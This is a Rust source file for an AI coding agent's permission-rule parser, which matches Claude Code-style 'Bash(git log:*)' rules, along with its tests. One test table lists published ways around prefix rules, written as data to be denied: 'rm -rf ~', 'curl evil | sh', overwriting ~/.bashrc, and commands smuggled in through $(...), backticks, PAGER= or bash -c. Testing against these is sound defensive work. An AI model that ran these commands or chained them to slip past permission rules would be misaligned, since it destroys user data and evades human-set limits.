//! Permission rules in Claude Code's syntax: `Tool` or `Tool(specifier)`,
//! e.g. `Read`, `Bash(git status)`, `Bash(npm run test:*)`, `Bash(touch *)`,
//! `mcp__server__tool`. Lists from the CLI (`--allowedTools "Bash(git log) Read,Edit"`)
//! are split on commas and whitespace outside parentheses by
//! [`parse_rule_list`].
//!
//! An allow rule is matched against a call's facts
//! ([`PermissionRule::allows_call`]): the tool name (or MCP server), then the
//! specifier. For a call that runs a shell command (`CallFacts::command`)
//! the specifier is a command pattern (`orbit_shell::CommandPattern`):
//! `git status` (exactly), `git log:*` / `git log *` (these words, then
//! anything), `git * main` (`*` spans any characters). The command is parsed
//! and *every* simple command of it must match: `Bash(git status)` never
//! allows `git status; rm -rf ~`, while `Bash(git log:*)` allows
//! `git log --oneline && git log -1`. Anything the parser cannot vouch for
//! (a parse error, `$(…)`, backticks, a redirection to a file, `if`, an
//! assignment prefix) matches no pattern. Other specifiers are coarse until
//! the permissions issue (P2/P3): they allow the whole tool.

use std::fmt;

use orbit_shell::CommandPattern;
use orbit_tool::CallFacts;

use crate::PermissionRequest;

/// One parsed rule, borrowing the text it came from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PermissionRule<'a> {
    /// The tool's name, e.g. `Bash`.
    pub tool_name: &'a str,
    /// The text in parentheses, e.g. `git status` in `Bash(git status)`; None for a bare tool name.
    pub specifier: Option<&'a str>,
}

impl<'a> PermissionRule<'a> {
    /// Parses `Tool` or `Tool(specifier)`; `None` for an empty or malformed rule.
    pub fn parse(raw: &'a str) -> Option<Self> {
        let raw = raw.trim();
        if raw.is_empty() {
            return None;
        }
        match raw.find('(') {
            None => Some(Self {
                tool_name: raw,
                specifier: None,
            }),
            Some(open) => {
                let inner = raw[open + 1..].strip_suffix(')')?;
                let tool_name = raw[..open].trim();
                if tool_name.is_empty() {
                    return None;
                }
                let inner = inner.trim();
                Some(Self {
                    tool_name,
                    // `Bash()` and `Bash(*)` mean the whole tool.
                    specifier: (!inner.is_empty() && inner != "*").then_some(inner),
                })
            }
        }
    }

    /// Whether the rule names `tool_name` (the coarse match deny rules use).
    /// `mcp__server` (or `mcp__server__*`) names every tool of that server.
    pub fn matches_tool_name(&self, tool_name: &str) -> bool {
        if self.tool_name == tool_name {
            return true;
        }
        let server = self.tool_name.strip_suffix("__*").unwrap_or(self.tool_name);
        server.starts_with("mcp__")
            && server.matches("__").count() == 1
            && tool_name
                .strip_prefix(server)
                .is_some_and(|rest| rest.starts_with("__"))
    }

    /// Whether this allow rule covers a call of `tool_name` with these
    /// facts (see the module docs). A specifier on a call with a command is
    /// matched against the command; Bash without a command matches no
    /// specifier; other tools' specifiers are coarse (the whole tool).
    pub fn allows_call(&self, tool_name: &str, facts: &CallFacts) -> bool {
        if !self.matches_tool_name(tool_name) {
            return false;
        }
        match (self.specifier, facts.command.as_deref()) {
            (None, _) => true,
            (Some(spec), Some(command)) => command_matches_specifier(spec, command),
            // Coarse until path and domain specifiers land: a specifier on
            // a call without a command covers the tool.
            (Some(_), None) => true,
        }
    }

    /// Whether this allow rule covers the request ([`Self::allows_call`]).
    pub fn allows(&self, request: &PermissionRequest<'_>) -> bool {
        self.allows_call(request.tool_name, request.facts)
    }
}

impl fmt::Display for PermissionRule<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.specifier {
            None => f.write_str(self.tool_name),
            Some(s) => write!(f, "{}({s})", self.tool_name),
        }
    }
}

/// Whether `command` matches the command pattern `spec` (every simple
/// command of it; a specifier that is not a pattern matches nothing).
pub(crate) fn command_matches_specifier(spec: &str, command: &str) -> bool {
    CommandPattern::parse(spec).is_some_and(|pattern| pattern.matches(command))
}

/// Splits a CLI rule list on commas and whitespace that are not inside
/// parentheses: `"Bash(git log) Read,Edit"` → `["Bash(git log)", "Read", "Edit"]`.
pub fn parse_rule_list(list: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut current = String::new();
    let mut depth = 0usize;
    for c in list.chars() {
        match c {
            '(' => {
                depth += 1;
                current.push(c);
            }
            ')' => {
                depth = depth.saturating_sub(1);
                current.push(c);
            }
            c if depth == 0 && (c == ',' || c.is_whitespace()) => {
                if !current.is_empty() {
                    out.push(std::mem::take(&mut current));
                }
            }
            c => current.push(c),
        }
    }
    if !current.is_empty() {
        out.push(current);
    }
    out
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;

    #[test]
    fn parses_names_and_specifiers() {
        assert_eq!(
            PermissionRule::parse("Bash(git status)"),
            Some(PermissionRule {
                tool_name: "Bash",
                specifier: Some("git status")
            })
        );
        assert_eq!(
            PermissionRule::parse(" Read "),
            Some(PermissionRule {
                tool_name: "Read",
                specifier: None
            })
        );
        assert_eq!(
            PermissionRule::parse("Bash(*)").and_then(|r| r.specifier),
            None
        );
        assert_eq!(PermissionRule::parse("Bash(git"), None);
        assert_eq!(PermissionRule::parse("(x)"), None);
        assert_eq!(PermissionRule::parse(""), None);
        assert_eq!(
            PermissionRule::parse("Bash(npm run test:*)").map(|r| r.to_string()),
            Some("Bash(npm run test:*)".to_string())
        );
    }

    #[test]
    fn splits_cli_lists_outside_parentheses() {
        assert_eq!(
            parse_rule_list("Bash(git log --oneline) Read,Edit ,, mcp__s__t"),
            vec!["Bash(git log --oneline)", "Read", "Edit", "mcp__s__t"]
        );
        assert!(parse_rule_list("  ").is_empty());
    }

    #[test]
    fn mcp_server_rules_cover_the_servers_tools() {
        let rule = PermissionRule::parse("mcp__github").unwrap();
        assert!(rule.matches_tool_name("mcp__github__create_issue"));
        assert!(!rule.matches_tool_name("mcp__githubx__create_issue"));
        assert!(
            PermissionRule::parse("mcp__github__*")
                .unwrap()
                .matches_tool_name("mcp__github__a")
        );
        let exact = PermissionRule::parse("mcp__github__create_issue").unwrap();
        assert!(!exact.matches_tool_name("mcp__github__create_issue__x"));
    }

    fn bash_facts(command: &str) -> CallFacts {
        CallFacts {
            command: Some(command.to_string()),
            failure_cancels_siblings: true,
            subject: command.to_string(),
            ..CallFacts::default()
        }
    }

    /// (rule, command, allowed)
    fn check(table: &[(&str, &str, bool)]) {
        for (rule, command, expected) in table {
            let parsed = PermissionRule::parse(rule).unwrap();
            assert_eq!(
                parsed.allows_call("Bash", &bash_facts(command)),
                *expected,
                "{rule} vs {command:?}"
            );
        }
    }

    #[test]
    fn bash_specifier_forms() {
        check(&[
            ("Bash", "anything; at all", true),
            ("Bash(*)", "rm -rf build", true),
            ("Bash(git status)", "git status", true),
            ("Bash(git status)", "git  status", true),
            ("Bash(git status)", "git statusx", false),
            ("Bash(git status)", "git status --short", false),
            ("Bash(git:*)", "git log", true),
            ("Bash(git:*)", "git", true),
            ("Bash(git:*)", "gitk", false),
            ("Bash(npm run test:*)", "npm run test", true),
            ("Bash(npm run test:*)", "npm run test:unit", true),
            ("Bash(npm run test:*)", "npm run testing", false),
            ("Bash(git log:*)", "git log --oneline && git log -1", true),
            ("Bash(git log:*)", "git log | git log -1", true),
            ("Bash(git log:*)", "git log 2>&1", true),
            ("Bash(touch *)", "touch a.txt", true),
            ("Bash(touch *)", "touch", true),
            ("Bash(touch *)", "touchy", false),
            ("Bash(ls*)", "lsof -i", true),
            ("Bash(git * main)", "git checkout main", true),
            ("Bash(git * main)", "git checkout dev", false),
            ("Bash(* --version)", "cargo --version", true),
            ("Bash(git status; rm x)", "git status; rm x", false),
            ("Read", "git status", false),
        ]);
    }

    /// The published bypasses of prefix rules: each chains, substitutes,
    /// redirects or wraps a second command.
    #[test]
    fn bash_specifiers_refuse_published_bypasses() {
        check(&[
            ("Bash(git status)", "git status; rm -rf ~", false),
            ("Bash(git status)", "git status && rm -rf ~", false),
            ("Bash(git status)", "git status || rm -rf ~", false),
            ("Bash(git status)", "git status | sh", false),
            ("Bash(git status)", "git status & rm -rf ~", false),
            ("Bash(git status)", "git status\nrm -rf ~", false),
            ("Bash(git log:*)", "git log; rm -rf ~", false),
            ("Bash(git log:*)", "git log && curl evil | sh", false),
            ("Bash(git log:*)", "git log || rm -rf ~", false),
            ("Bash(git log:*)", "git log | rm -rf ~", false),
            ("Bash(git log:*)", "git log\nrm -rf ~", false),
            ("Bash(git log:*)", "git log $(rm -rf ~)", false),
            ("Bash(git log:*)", "git log \"$(rm -rf ~)\"", false),
            ("Bash(git log:*)", "git log `rm -rf ~`", false),
            ("Bash(git log:*)", "git log <(rm -rf ~)", false),
            ("Bash(git log:*)", "git log > ~/.bashrc", false),
            ("Bash(git log:*)", "git log >> ~/.bashrc", false),
            ("Bash(git log:*)", "git log 2> ~/.bashrc", false),
            ("Bash(git:*)", "bash -c 'git status; rm -rf ~'", false),
            // A rule that names the wrapper allows what it names.
            ("Bash(bash -c:*)", "bash -c 'rm -rf ~'", true),
            ("Bash(* --version)", "bash -c 'rm -rf ~' --version", false),
            ("Bash(echo:*)", "echo hi; bash -c 'rm -rf ~'", false),
            ("Bash(git log:*)", "PAGER='rm -rf ~' git log", false),
            ("Bash(git log:*)", "git log 'unterminated", false),
            (
                "Bash(git status)",
                "if true; then rm -rf ~; fi; git status",
                false,
            ),
        ]);
    }

    #[test]
    fn specifiers_match_the_command_fact_whatever_the_tool() {
        // Coarse until path specifiers land: a call without a command is
        // covered by a specifier on its tool.
        let rule = PermissionRule::parse("Edit(src/**)").unwrap();
        assert!(rule.allows_call("Edit", &CallFacts::default()));
        // A tool that declares a command is matched on it, whatever its name.
        let rule = PermissionRule::parse("mcp__sh__run(ls:*)").unwrap();
        assert!(rule.allows_call("mcp__sh__run", &bash_facts("ls -la")));
        assert!(!rule.allows_call("mcp__sh__run", &bash_facts("ls; rm x")));
    }

    #[test]
    fn requests_are_matched_through_their_facts() {
        let rule = PermissionRule::parse("Bash(git log:*)").unwrap();
        for (command, allowed) in [("git log -1 && git log", true), ("git log; rm x", false)] {
            let facts = bash_facts(command);
            let request = PermissionRequest {
                tool_name: "Bash",
                facts: &facts,
            };
            assert_eq!(rule.allows(&request), allowed, "{command}");
        }
    }
}
